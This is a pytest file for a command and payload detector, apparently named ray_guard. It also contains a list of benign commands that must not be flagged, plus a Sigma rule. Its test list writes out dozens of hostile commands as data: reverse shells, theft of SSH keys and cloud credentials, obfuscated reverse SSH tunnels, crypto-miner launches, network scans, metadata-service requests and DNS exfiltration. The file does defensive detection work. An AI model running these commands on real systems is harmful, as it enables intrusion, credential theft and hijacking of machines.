"""Detection: disguises that have to be found, and ordinary commands that must not be."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ray_guard.attribution.detect import commands, payloads, sigma
from ray_guard.attribution.detect.shell import commands as split
from ray_guard.attribution.detect.ssh import tunnels_back

ATTACKS = [
    ("reverse_tunnel", "ssh -fNR 2222:localhost:22 u@198.51.100.7"),
    ("reverse_tunnel", 'ssh -N -f -o RemoteForward="2222 localhost:22" u@h'),
    ("reverse_tunnel", 'ssh -o "RemoteForward=9000 127.0.0.1:22" -p 443 h'),
    ("reverse_tunnel", "ssh -fNTR 0.0.0.0:8022:127.0.0.1:22 -i k u@h"),
    ("reverse_tunnel", "ssh -w 0:0 root@h"),
    ("reverse_tunnel", "autossh -M 0 -f -N -R 2222:localhost:22 h"),
    ("reverse_tunnel", "nohup setsid s''sh -NR 1:localhost:2 h &"),
    ("reverse_tunnel", "cp /usr/bin/ssh /tmp/x; /tmp/x -fNR 2222:localhost:22 u@h"),
    ("reverse_tunnel", "./chisel client http://h:8080 R:socks"),
    ("reverse_tunnel", "/tmp/.a client https://h:443 R:2222:localhost:22"),
    ("reverse_tunnel", "frpc -c frpc.toml"),
    ("reverse_tunnel", "ngrok tcp 22"),
    ("reverse_tunnel", "cloudflared tunnel --url http://localhost:8000"),
    ("reverse_tunnel", "bore local 8000 --to bore.pub"),
    ("reverse_tunnel", "gost -L=:8080 -F=relay+tls://h:443"),
    ("reverse_tunnel", "npx localtunnel --port 8000"),
    ("reverse_tunnel", "printf 'Host x\\\\n  RemoteForward 2222 localhost:22\\\\n' > ~/.ssh/config && ssh -N x"),
    ("reverse_tunnel", 'bash -c "$(echo c3NoIC1mTlIgMjIyMjpsb2NhbGhvc3Q6MjIgdUBo | base64 -d)"'),
    ("reverse_tunnel", "echo c3NoIC1mTlIgMjIyMjpsb2NhbGhvc3Q6MjIgdUBo | base64 -d | sh"),
    ("reverse_tunnel", "python -c \"import paramiko; t.request_port_forward('',2222)\""),
    ("mining", "./xmrig -o pool.supportxmr.com:3333 -u 4ABC -k"),
    ("mining", "./kworker --donate-level 1 -o h:3333 -u w"),
    ("mining", "./python3-helper -o stratum+tcp://h:4444 -u wallet.rig"),
    ("mining", "t-rex -a kawpow -o stratum+tcp://h:1 -u w"),
    ("mining", 'echo \'{"id":1,"method":"mining.subscribe","params":[]}\' | nc h 3333'),
    ("probing", "nmap -sS 10.0.0.0/24"),
    ("probing", "for i in $(seq 1 254); do ping -c1 -W1 10.0.0.$i; done"),
    ("probing", "for p in 22 80 443; do (echo > /dev/tcp/10.0.0.5/$p) && echo open; done"),
    ("probing", "nc -zv 10.0.0.5 1-1024"),
    (
        "probing",
        "python3 -c \"\nimport socket\nfor i in range(1,255):\n    s=socket.socket(); s.settimeout(.1)\n    if s.connect_ex((f'10.0.0.{i}',22))==0: print(i)\"",  # noqa: E501 - as it is typed
    ),
    ("probing", "seq 1 254 | xargs -P50 -I{} nc -zv -w1 192.168.1.{} 22"),
    ("metadata", "curl http://169.254.169.254/latest/meta-data/iam/"),
    ("metadata", "curl http://2852039166/latest/"),
    ("metadata", "wget -qO- http://0xA9FEA9FE/"),
    ("metadata", "curl 'http://[::ffff:169.254.169.254]/'"),
    ("metadata", "curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/"),
    ("metadata", "python -c \"import requests; requests.get('http://100.100.100.200/latest/meta-data')\""),
    ("dns_tunnel", "iodine -f -P x t.example.org"),
    ("dns_tunnel", "for c in $(base64 -w40 secret); do dig $c.x.example.org; done"),
    ("dns_tunnel", "dig $(whoami).x.example.org"),
    ("dns_tunnel", "nslookup aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldCBtZXNzYWdl.x.example.org"),
    ("exfiltration", "curl -F file=@/root/.ssh/id_rsa https://h/up"),
    ("exfiltration", "tar cz . | curl -T - https://transfer.sh/x"),
    ("exfiltration", "cat ~/.aws/credentials | nc h 9000"),
    ("exfiltration", "env | curl -d @- https://webhook.site/abc"),
    ("exfiltration", "scp ~/.ssh/id_ed25519 u@h:/tmp"),
    ("exfiltration", "tar czf - /workspace | ssh u@h 'cat > x.tgz'"),
    ("exfiltration", "nc h 9000 < ~/.ssh/id_rsa"),
    ("reverse_shell", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1"),
    ("reverse_shell", "nc -e /bin/sh h 4444"),
    ("reverse_shell", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc h 4444 > /tmp/f"),
    (
        "reverse_shell",
        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("h",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'',  # noqa: E501 - as it is typed
    ),
    (
        "reverse_shell",
        'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(1,inet_aton("h")));open(STDIN,">&S");exec("/bin/sh -i");\'',  # noqa: E501 - as it is typed
    ),
    ("reverse_shell", "socat TCP:h:4444 EXEC:'bash -li',pty,stderr"),
    ("reverse_shell", "exec 5<>/dev/tcp/h/443; cat <&5 | while read l; do $l 2>&5 >&5; done"),
]
ORDINARY = [
    "pip install -r requirements.txt",
    "git clone https://github.com/x/y.git && cd y && make -j4",
    "curl -sSL https://example.org/install.sh | bash",
    'curl -X POST http://localhost:8000/v1/completions -d \'{"prompt": "hi"}\'',
    "curl -X POST https://api.example.org/x -H 'content-type: application/json' -d '{\"a\": 1}'",
    "ssh git@github.com",
    "ssh -T git@github.com",
    "ssh -L 8080:localhost:80 host",
    "ssh -i key -p 2222 user@host 'ls -la'",
    "scp results.csv user@host:/data/",
    "rsync -av src/ dst/",
    'grep -rn "RemoteForward" /etc/ssh',
    "grep -R 3333:x:80 .",
    "nc -z localhost 5432",
    "nc -zv db 5432",
    "until nc -z localhost 8080; do sleep 1; done",
    "for i in 1 2 3; do curl -s http://localhost:8000/health && break; sleep 1; done",
    "for f in *.py; do python -m py_compile $f; done",
    "nmap --version",
    "man nmap",
    "pip install python-nmap",
    "apt-get install -y nmap netcat",
    "cat /etc/passwd",
    "cat .env",
    "tar czf backup.tgz src",
    "python -c \"import socket; s=socket.socket(); s.connect(('localhost',80))\"",
    "python -m http.server 8000",
    "docker run -p 8080:80 nginx",
    'echo "ssh -R 2222:localhost:22 host" >> notes.md',
    "rg 'mining.subscribe' src/",
    "dig example.org",
    "dig +short example.org MX",
    "nslookup example.org",
    "ping -c 3 example.org",
    "openssl s_client -connect example.org:443 </dev/null",
    "xargs -I{} curl -sO https://example.org/{} < urls.txt",
    "env | sort",
    "export PATH=$PATH:/opt/bin",
    "aws s3 ls",
    "wget https://example.org/data.tar.gz",
    "curl -F 'file=@report.pdf' https://api.example.org/upload",
    "find . -name '*.py' | xargs wc -l",
    "sed -n '1,10p' /proc/self/environ",
    "python train.py --coin-flip 0.5 -o out -u user",
    "./solve -o out.txt --url http://localhost:8888",
    "git push origin main",
    "ssh-keygen -t ed25519 -f id_ed25519 -N ''",
    "cat ~/.ssh/id_rsa.pub",
    "kubectl get pods -o wide",
    "timeout 30 pytest -x",
    "node -e \"require('net').connect(80,'example.org')\"",
    "python -c 'import subprocess'",
    "for port in 3000 8000; do curl -s localhost:$port; done",
    "for host in web1 web2; do ssh $host uptime; done",
    'while read url; do curl -sO "$url"; done < urls.txt',
    "socat TCP-LISTEN:8080,fork TCP:localhost:80",
    "python -c \"for i in range(10): print('10.0.0.%d' % i)\"",
    "echo aGVsbG8gd29ybGQ= | base64 -d",
    "go build -o bin/app ./cmd/app",
]


@pytest.mark.parametrize(("kind", "command"), ATTACKS)
def test_disguises_are_found(kind: str, command: str) -> None:
    found = commands.judge(command)
    assert found is not None
    assert found.kind.value == kind


@pytest.mark.parametrize(
    "wrapped", ["sudo -n {}", "nohup {} &", "cd /tmp && {}", "timeout 60 {}", "true | {}", "X=1 setsid {}"]
)
def test_wrappers_hide_nothing(wrapped: str) -> None:
    for command in ("ssh -NR 2222:localhost:22 u@h", "./xmrig -o pool.minexmr.com:4444", "nmap -sT 10.0.0.0/24"):
        assert commands.judge(wrapped.format(command)) is not None, command


@pytest.mark.parametrize("command", ORDINARY)
def test_ordinary_commands_are_left_alone(command: str) -> None:
    assert commands.judge(command) is None


@given(st.text(max_size=400))
def test_no_text_stops_it(text: str) -> None:
    commands.judge(text)


@pytest.mark.parametrize(
    ("words", "rule"),
    [
        ("-fNTR 2222:localhost:22 h", "ssh.remote_forward"),
        ("-NR2222:localhost:22 h", "ssh.remote_forward"),
        ("h -R 2222:localhost:22", "ssh.remote_forward"),
        ("-oRemoteForward=2222\\ localhost:22 h", "ssh.remote_forward"),
        ("-o Tunnel=yes h", "ssh.tun_device"),
        ("-L 2222:localhost:22 h", ""),
        ("-p 22 h ls -R /", ""),
        ("h -- -R 2:3:4", ""),
        ("-Z h", ""),
    ],
)
def test_arguments_are_read_as_ssh_reads_them(words: str, rule: str) -> None:
    assert tunnels_back(next(iter(split(f"ssh {words}"))).arguments) == rule


@pytest.mark.parametrize(
    ("payload", "direction", "kind"),
    [
        (b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n", "received", "reverse_tunnel"),
        (b'{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5"]}\n', "sent", "mining"),
        (
            b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4A","pass":"x","agent":"XMRig/6"}}\n',
            "sent",
            "mining",
        ),
        (b'{"id":1,"method":"eth_submitLogin","params":["0x1"]}', "sent", "mining"),
        (b"GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n", "sent", "metadata"),
        (
            b"GET / HTTP/1.1\r\nHost: h\r\nUpgrade: websocket\r\nSec-WebSocket-Protocol: chisel-v3\r\n\r\n",
            "sent",
            "reverse_tunnel",
        ),
        (b'{"Hello":0}\0', "sent", "reverse_tunnel"),
        (b"sh-5.1$ ", "sent", "reverse_shell"),
        (b"bash: no job control in this shell\n", "sent", "reverse_shell"),
        (b"-----BEGIN OPENSSH PRIVATE KEY-----\n", "sent", "exfiltration"),
        (
            b"\x12\x34\x01\x00\x00\x01\0\0\0\0\0\0\x30aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldCBtZXNzYWdl\x01t\x07example\x03org\0\0\x10\0\x01",
            "sent",
            "dns_tunnel",
        ),
        (b"GET / HTTP/1.1\r\nHost: example.org\r\n\r\n", "sent", None),
        (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", "sent", None),
        (b'{"jsonrpc":"2.0","id":1,"method":"initialize","params":{}}', "sent", None),
        (b"\x12\x34\x01\x00\x00\x01\0\0\0\0\0\0\x03www\x07example\x03org\0\0\x01\0\x01", "sent", None),
        (b'POST /v1/messages HTTP/1.1\r\nHost: h\r\n\r\n{"prompt": "$ "}', "sent", None),
        (b"", "sent", None),
    ],
)
def test_first_bytes(payload: bytes, direction: str, kind: str | None) -> None:
    found = payloads.judge(payload, direction)
    assert (None if found is None else found.kind.value) == kind


@given(st.binary(max_size=300), st.sampled_from(["sent", "received"]))
def test_no_bytes_stop_it(payload: bytes, direction: str) -> None:
    payloads.judge(payload, direction)


SIGMA = """
title: Suspicious Curl Upload Of A Recipe
id: 5013198c-9c5c-4f45-a7b5-5c5f5a5b5c5d
status: test
logsource: {category: process_creation, product: linux}
tags: [attack.t1567]
detection:
    selection:
        Image|endswith: '/curl'
        CommandLine|contains|all: [' --upload-file ', 'cipe']
    filter:
        CommandLine|re: 'localhost(:\\d+)?/'
    condition: selection and not filter
level: medium
"""


def detect(tmp_path: Path, lines: list[str], *words: str) -> tuple[int, list[dict[str, Any]], str]:
    path = tmp_path / "commands.jsonl"
    path.write_text("\n".join(lines))
    command = [sys.executable, "-m", "ray_guard.cli.__main__", "detect", "--commands", str(path), *words]
    done = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)
    return done.returncode, [json.loads(line) for line in done.stdout.splitlines()], done.stderr


def test_sigma_rules_of_others_count_too(tmp_path: Path) -> None:
    rules = tmp_path / "rule.yml"
    rules.write_text(SIGMA)
    asked = [
        json.dumps({"command": command})
        for command in (
            "curl --upload-file recipe h/",
            "curl --upload-file recipe localhost/",
            "curl recipe",
            "ssh -w0:0 h",
        )
    ]
    status, answers, _ = detect(tmp_path, asked, "--rules", str(rules))
    assert status == 0
    name = "sigma.5013198c-9c5c-4f45-a7b5-5c5f5a5b5c5d"
    assert answers[0] == {"flagged": True, "kind": "exfiltration", "rule": name}
    assert [each["flagged"] for each in answers] == [True, False, False, True]


def test_every_line_is_answered_and_a_bad_one_named(tmp_path: Path) -> None:
    status, answers, errors = detect(
        tmp_path, ['{"command": "ls"}', "{", '{"text": "ls"}', '{"command": ["nmap", "h"]}']
    )
    assert status == 1
    assert [each["flagged"] for each in answers] == [False, False, False, True]
    assert answers[1]["error"].startswith("line 2: ")
    assert "2 of 4 lines" in errors


def test_a_file_that_is_no_rule_is_named(tmp_path: Path) -> None:
    path = tmp_path / "x.yml"
    path.write_text("detection: [")
    with pytest.raises(sigma.BadRule, match=r"x\.yml: no Sigma rule"):
        sigma.load([path])
